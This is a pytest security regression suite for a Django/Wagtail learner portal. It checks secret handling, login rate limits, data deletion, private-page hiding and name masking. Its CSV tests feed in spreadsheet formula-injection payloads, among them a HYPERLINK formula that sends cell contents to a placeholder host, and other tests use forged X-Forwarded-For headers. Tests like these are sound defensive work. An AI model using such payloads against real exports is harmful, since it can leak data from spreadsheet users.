"""No one in, nothing kept: secrets stay on the server, limits hold, deletion reaches every table.

One test per finding of the probe of the running portal (the races are in ``tests/live``).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.hashers import MD5PasswordHasher
from django.core.cache import cache
from django.db import connection
from django.test import Client
from django.urls import URLPattern, reverse, reverse_lazy
from wagtail.models import Page, PageViewRestriction

import learners.urls
from learners.models import Certificate, Learner, QuizAttempt
from learners.privacy import mask_name
from places.models import Village
from tests.learners.helpers import answers_for, make_profile, open_form, pass_quiz, submit

pytestmark = pytest.mark.django_db

SIGN_IN = reverse_lazy("learners:sign_in")
STAFF_SIGN_IN = reverse_lazy("wagtailadmin_login")


@pytest.fixture(autouse=True)
def _clear_cache():
    cache.clear()


def text_of(response) -> str:
    """A response's text, whatever its form: HTML, streamed CSV, or the strings of an XLSX."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if body[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            return "\n".join(
                archive.read(name).decode("utf-8", "replace")
                for name in archive.namelist()
                if name.endswith(".xml")
            )
    return body.decode("utf-8", "replace")


def signed_in_learner_with_a_certificate(client, quiz, name="Nguyễn Văn An"):
    learner = make_profile(client, name=name)
    pass_quiz(client, quiz)
    return learner, learner.certificates.get(), learner.attempts.get()


def edit_learner(learner) -> str:
    return reverse("learner:edit", args=[learner.pk])


# (URL name, the object it shows, query string)
STAFF_VIEWS = [
    ("learner:index", None, ""),
    ("learner:index", None, "?export=csv"),
    ("learner:index", None, "?export=xlsx"),
    ("learner:inspect", "learner", ""),
    ("learner:edit", "learner", ""),
    ("learner:history", "learner", ""),
    ("quizattempt:index", None, ""),
    ("quizattempt:index", None, "?export=csv"),
    ("quizattempt:index", None, "?export=xlsx"),
    ("quizattempt:inspect", "attempt", ""),
    ("certificate:index", None, ""),
    ("certificate:index", None, "?export=csv"),
    ("certificate:inspect", "certificate", ""),
    ("certificate:edit", "certificate", ""),
    ("wagtailadmin_reports:site_history", None, ""),
    ("wagtailadmin_reports:site_history", None, "?export=csv"),
]


def test_no_secret_leaves_the_server_in_any_staff_view_or_export(client, admin_client, quiz):
    """Finding 6: the PIN hash (and the session key, and the form token) stay on the server."""
    learner, certificate, attempt = signed_in_learner_with_a_certificate(client, quiz)
    admin_client.post(
        edit_learner(learner),
        {"display_name": learner.display_name, "birth_year": "1961", "village": ""},
    )
    attempt.refresh_from_db()
    secrets = {
        "PIN hash": learner.pin_hash,
        "PIN hash digest": learner.pin_hash.rsplit("$", 1)[-1],
        "session key": client.session.session_key,
        "form token": attempt.token,
    }
    ids = {"learner": learner.pk, "attempt": attempt.pk, "certificate": certificate.pk}
    for name, shown, query in STAFF_VIEWS:
        url = reverse(name, args=[ids[shown]] if shown else []) + query
        response = admin_client.get(url)
        assert response.status_code == 200, url
        text = text_of(response)
        for what, secret in secrets.items():
            assert secret and secret not in text, f"{url} shows the {what}"
    inspect = text_of(admin_client.get(reverse("learner:inspect", args=[learner.pk])))
    assert learner.code in inspect and "1961" in inspect  # what an officer does need


def test_an_unknown_code_costs_the_same_pin_check_as_a_wrong_pin(client, monkeypatch):
    """Finding 7: an unknown code and a wrong PIN both run the slow PIN hasher once."""
    learner = make_profile(client)
    checks = []
    verify = MD5PasswordHasher.verify

    def counting_verify(self, password, encoded):
        checks.append(password)
        return verify(self, password, encoded)

    monkeypatch.setattr(MD5PasswordHasher, "verify", counting_verify)
    wrong = Client().post(SIGN_IN, {"code": learner.code, "pin": "0000"})
    for_wrong_pin = len(checks)
    unknown = Client().post(SIGN_IN, {"code": "XXX-XXX", "pin": "0000"})
    for_unknown_code = len(checks) - for_wrong_pin
    assert for_wrong_pin == for_unknown_code == 1
    # ...and they answer the same.
    assert wrong.status_code == unknown.status_code == 400
    message = "Mã học viên hoặc mã PIN chưa đúng"
    assert message in wrong.content.decode() and message in unknown.content.decode()


def test_forwarded_addresses_count_only_from_the_configured_proxy(client, settings):
    """Finding 8: straight to the app port, a made-up X-Forwarded-For changes nothing."""
    settings.TRUSTED_PROXIES = ["10.0.0.1"]
    learner = make_profile(client)
    for n in range(25):
        Client(REMOTE_ADDR="203.0.113.5", HTTP_X_FORWARDED_FOR=f"198.51.100.{n}").post(
            SIGN_IN, {"code": f"AAA-{n:03d}", "pin": "0000"}
        )
    direct = Client(REMOTE_ADDR="203.0.113.5", HTTP_X_FORWARDED_FOR="198.51.100.99")
    # Past the address's limit a code gets one try from there (issue 10: the class behind one
    # Wi-Fi is not locked out); the second is refused: all 26 counted as one address.
    direct.post(SIGN_IN, {"code": learner.code, "pin": "0000"})
    response = direct.post(SIGN_IN, {"code": learner.code, "pin": "2468"})
    assert "quá nhiều lần" in response.content.decode()
    # Through the proxy each phone keeps its own count, and a forged first hop is ignored.
    via_proxy = Client(REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR="6.6.6.6, 203.0.113.5")
    assert (
        "quá nhiều lần"
        in via_proxy.post(SIGN_IN, {"code": learner.code, "pin": "2468"}).content.decode()
    )
    other = Client(REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR="203.0.113.5, 192.0.2.44")
    assert other.post(SIGN_IN, {"code": learner.code, "pin": "2468"}).status_code == 302


@pytest.mark.parametrize(
    ("remote", "forwarded", "trusted", "expected"),
    [
        ("203.0.113.5", "", ["10.0.0.1"], "203.0.113.5"),
        ("203.0.113.5", "198.51.100.1", ["10.0.0.1"], "203.0.113.5"),
        ("10.0.0.1", "198.51.100.1", ["10.0.0.1"], "198.51.100.1"),
        ("10.0.0.1", "6.6.6.6, 198.51.100.1", ["10.0.0.1"], "198.51.100.1"),
        ("10.0.0.2", "198.51.100.1, 10.0.0.1", ["10.0.0.0/24"], "198.51.100.1"),
        ("10.0.0.1", "not-an-address", ["10.0.0.1"], "not-an-address"),
        ("10.0.0.1", "", ["10.0.0.1"], "10.0.0.1"),
        ("::1", "2001:db8::7", ["::1"], "2001:db8::7"),
    ],
)
def test_client_address_walks_the_forwarded_chain_from_the_proxy(
    rf, settings, remote, forwarded, trusted, expected
):
    from core.http import client_address

    settings.TRUSTED_PROXIES = trusted
    request = rf.get("/", REMOTE_ADDR=remote, HTTP_X_FORWARDED_FOR=forwarded)
    assert client_address(request) == expected


def test_staff_sign_in_is_limited(client):
    """Finding 9: wrong passwords at /admin/login/ are limited like wrong PINs."""
    user = get_user_model().objects.create_user(
        "bientap-vien", password="Mat-khau-dai-va-kho-2026", is_staff=True
    )
    for _ in range(12):
        response = client.post(
            STAFF_SIGN_IN, {"username": user.username, "password": "sai-mat-khau"}
        )
        assert response.status_code == 200
    response = client.post(
        STAFF_SIGN_IN, {"username": user.username, "password": "Mat-khau-dai-va-kho-2026"}
    )
    assert "_auth_user_id" not in client.session
    assert "quá nhiều lần" in response.content.decode()
    # Another person at another address signs in as usual.
    other = get_user_model().objects.create_user(
        "bientap-khac", password="Mat-khau-khac-2026", is_staff=True
    )
    elsewhere = Client(REMOTE_ADDR="192.0.2.9")
    response = elsewhere.post(
        STAFF_SIGN_IN, {"username": other.username, "password": "Mat-khau-khac-2026"}
    )
    assert response.status_code == 302 and "_auth_user_id" in elsewhere.session


FORMULAS = [
    '=HYPERLINK("http://x.invalid/?"&A2,"Bam")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]
EXPORTS = [  # URL names; each is asked for ``?export=csv``
    "learner:index",
    "quizattempt:index",
    "certificate:index",
    "learner_reports:quizzes",
    "learner_reports:questions",
    "wagtailadmin_reports:site_history",
    "wagtailsnippets_skills_skill:list",
]
LEARNER_RECORDS = ("learner", "quizattempt", "certificate")


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_exports_never_start_a_cell_with_a_formula(admin_client, quiz, formula):
    """Finding 10: a name or village typed as a formula is written as text in every CSV."""
    village = Village.objects.create(name=formula, households=1, residents_15_plus=1)
    learner = Learner(code="KKK-KKK", display_name=formula, village=village, village_note=formula)
    learner.set_pin("2468")
    learner.save()
    QuizAttempt.objects.create(
        learner=learner, quiz=quiz, token=formula, correct=1, total=1, percent=100,
        pass_mark=70, passed=True,
    )  # fmt: skip
    Certificate.objects.create(
        code="FFFF-FFFF", learner=learner, kind="basic", title=formula, masked_name=formula
    )
    admin_client.post(
        edit_learner(learner),
        {"display_name": formula, "birth_year": "", "village": village.pk},
    )  # the site history now names the learner
    for name in EXPORTS:
        url = reverse(name) + "?export=csv"
        response = admin_client.get(url)
        assert response.status_code == 200, url
        rows = list(csv.reader(io.StringIO(text_of(response))))
        assert len(rows) > 1, url
        cells = [cell for row in rows for cell in row]
        dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert not dangerous, f"{url}: {dangerous[:3]}"
        if name.partition(":")[0] in LEARNER_RECORDS:
            # Kept, as text (the admin's form trims the leading tab or return it was given).
            assert any(cell.startswith("'") and formula.strip() in cell for cell in cells), url


def all_rows_text() -> str:
    """Every row of every table of the database, as text."""
    chunks = []
    with connection.cursor() as cursor:
        for table in connection.introspection.table_names():
            cursor.execute(f"SELECT * FROM {connection.ops.quote_name(table)}")  # noqa: S608
            for row in cursor.fetchall():
                chunks.append(" ".join(str(value) for value in row))
    return "\n".join(chunks)


def test_deleting_a_profile_leaves_the_name_and_code_in_no_table(
    client, admin_client, lesson, quiz
):
    """Finding 11: after “Xóa hồ sơ của tôi” only anonymous statistics remain."""
    name, village = "Đinh Thị Xuyến Quỳnh", "Xóm Gò Mây Xa"
    learner = make_profile(client, name=name)
    Learner.objects.filter(pk=learner.pk).update(village_note=village)  # typed before the list
    pass_quiz(client, quiz)
    client.post(reverse("learners:complete_lesson", args=[lesson.pk]))
    admin_client.post(
        edit_learner(learner),
        {"display_name": name, "birth_year": "1950", "village": ""},
    )
    Client(REMOTE_ADDR="192.0.2.1").post(SIGN_IN, {"code": learner.code, "pin": "0000"})
    code = learner.code
    assert name in all_rows_text() and code in all_rows_text()

    response = client.post(reverse("learners:delete"), {"confirm": "yes"}, follow=True)

    left = all_rows_text()
    for what in (name, code, village):
        assert what not in left, f"{what!r} is still stored"
    html = response.content.decode()
    assert "thống kê" in html and "ẩn danh" in html  # says what is kept
    assert "mọi thông tin" not in html
    assert QuizAttempt.objects.filter(quiz__slug__isnull=False, learner__isnull=True).exists()


def test_a_private_topic_appears_nowhere_for_a_visitor(client, home, quiz):
    """Finding 12: a password-protected topic is neither listed nor linked for a visitor."""
    learner = make_profile(client)
    response = pass_quiz(client, quiz)
    result_url = response.url
    topic = quiz.get_parent()
    PageViewRestriction.objects.create(
        page=topic, restriction_type=PageViewRestriction.PASSWORD, password="matkhau"
    )
    private = Page.objects.descendant_of(topic, inclusive=True)
    private_urls = [page.url for page in private]
    private_titles = [page.title for page in private.exclude(pk=topic.pk)]
    assert learner.completions.exists()

    # The result of a quiz that is now private is not shown to someone without the password.
    assert client.get(result_url).status_code == 404
    learner_page, search = reverse("learners:index"), reverse("search")
    for url in [
        home.url,
        learner_page,
        f"{search}?q=vneid",
        f"{search}?q=dang+nhap",
        "/api/v2/pages/?search=vneid",
        "/api/v2/pages/?limit=50&fields=title",
        *crawl(client, home.url, limit=60),
    ]:
        response = client.get(url)
        assert response.status_code == 200, url
        text = response.content.decode()
        hrefs = set(re.findall(r'href="([^"]+)"', text)) | set(
            re.findall(r'"html_url": ?"https?://[^/]+(/[^"]*)"', text)
        )
        assert not hrefs & set(private_urls), f"{url} links to {hrefs & set(private_urls)}"
        if url == learner_page or url.startswith((search, "/api")):
            for title in private_titles:
                named = (f">{title}<", f'"title": "{title}"')
                assert not any(name in text for name in named), f"{url} names {title!r}"


def crawl(client, start: str, limit: int) -> list[str]:
    """Pages a visitor reaches by following links from ``start`` (same site, no admin)."""
    seen, queue = [], [start]
    while queue and len(seen) < limit:
        url = queue.pop(0)
        if url in seen:
            continue
        seen.append(url)
        response = client.get(url)
        if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
            continue
        for href in re.findall(r'href="(/[^"#?]*)"', response.content.decode()):
            # Not pages: files, the API, the web app manifest and its icons.
            skipped = ("/admin", "/static", "/media", "/documents", "/api", "/icons/", "/manifest")
            if not href.startswith(skipped):
                queue.append(href)
    return seen


PUBLIC_PATTERNS = {"certificate_check", "certificate_lookup"}  # public: a QR code, a typed code


def test_every_personal_page_is_private_and_never_stored(client, lesson, quiz):
    """Finding 13: every page and file of the learner area says ``private, no-store``."""
    learner, certificate, attempt = signed_in_learner_with_a_certificate(client, quiz)
    arguments = {
        "public_id": attempt.public_id,
        "code": certificate.code,
        "quiz_id": quiz.pk,
        "lesson_id": lesson.pk,
    }
    names = [
        pattern.name
        for pattern in learners.urls.urlpatterns
        if isinstance(pattern, URLPattern) and pattern.name not in PUBLIC_PATTERNS
    ]
    assert len(names) >= 9
    for name in names:
        pattern = next(p for p in learners.urls.urlpatterns if p.name == name)
        url = reverse(
            f"learners:{name}",
            kwargs={k: v for k, v in arguments.items() if k in pattern.pattern.converters},
        )
        for visitor in (client, Client()):
            response = visitor.get(url)
            cache_control = response.get("Cache-Control", "")
            assert "no-store" in cache_control and "private" in cache_control, (
                f"{name} ({url}, {response.status_code}): {cache_control!r}"
            )


@pytest.mark.parametrize(
    ("name", "hidden"),
    [
        ("Nguyễn Văn An", ["Văn", "An"]),
        ("Lan", ["Lan"]),
        ("Xuyếnnhi", ["Xuyếnnhi", "uyến"]),
        ("A", []),
        ("🌸Hoa", ["Hoa"]),
        ("王小明", ["小明"]),
        ("Trần-Thị-Bình", ["Thị", "Bình"]),
        ("  hoa   mai  ", ["mai"]),
    ],
)
def test_masked_names_hide_all_but_initials(name, hidden):
    """Finding 14: one word, very short, with emoji, in another script: still masked."""
    masked = mask_name(name)
    assert masked and masked.endswith(".")
    for part in hidden:
        assert part not in masked, (name, masked)


def test_a_one_word_name_is_masked_on_the_public_check_page(client, quiz):
    learner = make_profile(client, name="Xuyếnnhi")
    pass_quiz(client, quiz)
    certificate = learner.certificates.get()
    check = reverse("learners:certificate_check", args=[certificate.code])
    html = Client().get(check).content.decode()
    assert "Xuyếnnhi" not in html and "X." in html


@pytest.mark.parametrize("times", [2, 100])
def test_a_choice_repeated_in_one_form_is_refused(client, quiz, times):
    """Finding 16: a valid choice sent again and again is a malformed answer, not a record."""
    form = open_form(client, quiz)
    answers = answers_for(quiz)
    first = next(iter(answers))
    answers[first] = answers[first] * times
    before = QuizAttempt.objects.count()
    response = submit(client, quiz, answers, form["token"])
    assert response.status_code == 400
    assert "lặp lại" in response.content.decode(), re.findall(
        r'class="error"[^>]*>([^<]*)', response.content.decode()
    )
    assert QuizAttempt.objects.count() == before


@pytest.mark.parametrize("model", ["learner", "quizattempt", "certificate"])
def test_records_made_by_the_portal_have_no_add_form(admin_client, model):
    """Finding 17: not even a superuser can make a learner, attempt or certificate by hand."""
    add = reverse(f"{model}:add")
    listing = admin_client.get(reverse(f"{model}:index")).content.decode()
    assert add not in listing
    before = {m: m.objects.count() for m in (Learner, QuizAttempt, Certificate)}
    assert admin_client.get(add).status_code in (302, 403, 404)
    response = admin_client.post(add, {"display_name": "Giả", "title": "Giả"})
    assert response.status_code in (302, 403, 404, 405)
    assert {m: m.objects.count() for m in before} == before


def test_attempts_and_certificates_cannot_be_edited_away_or_deleted(client, admin_client, quiz):
    learner, certificate, attempt = signed_in_learner_with_a_certificate(client, quiz)
    for url in (
        reverse("quizattempt:edit", args=[attempt.pk]),
        reverse("quizattempt:delete", args=[attempt.pk]),
        reverse("certificate:delete", args=[certificate.pk]),
    ):
        assert admin_client.get(url).status_code in (302, 403, 404), url
        admin_client.post(url)
    assert QuizAttempt.objects.filter(pk=attempt.pk).exists()
    assert Certificate.objects.filter(pk=certificate.pk).exists()


def test_deleting_a_learner_in_the_admin_withdraws_their_certificates(client, admin_client, quiz):
    learner, certificate, attempt = signed_in_learner_with_a_certificate(client, quiz)
    response = admin_client.post(reverse("learner:delete", args=[learner.pk]))
    assert response.status_code == 302
    assert not Learner.objects.filter(pk=learner.pk).exists()
    certificate.refresh_from_db()
    attempt.refresh_from_db()
    assert certificate.withdrawn and certificate.masked_name == ""
    assert attempt.learner is None and attempt.answers == {}
